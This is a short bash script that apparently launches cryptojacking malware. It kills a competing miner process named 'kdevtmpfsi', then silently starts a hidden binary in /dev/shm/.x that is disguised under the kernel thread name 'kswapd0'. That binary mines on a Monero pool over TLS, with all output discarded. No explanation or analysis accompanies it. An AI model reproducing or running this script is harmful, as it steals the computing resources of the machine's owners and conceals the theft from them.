#!/bin/bash
pkill -f kdevtmpfsi
nohup /dev/shm/.x/kswapd0 -o pool.supportxmr.com:443 --tls -k -B >/dev/null 2>&1 &
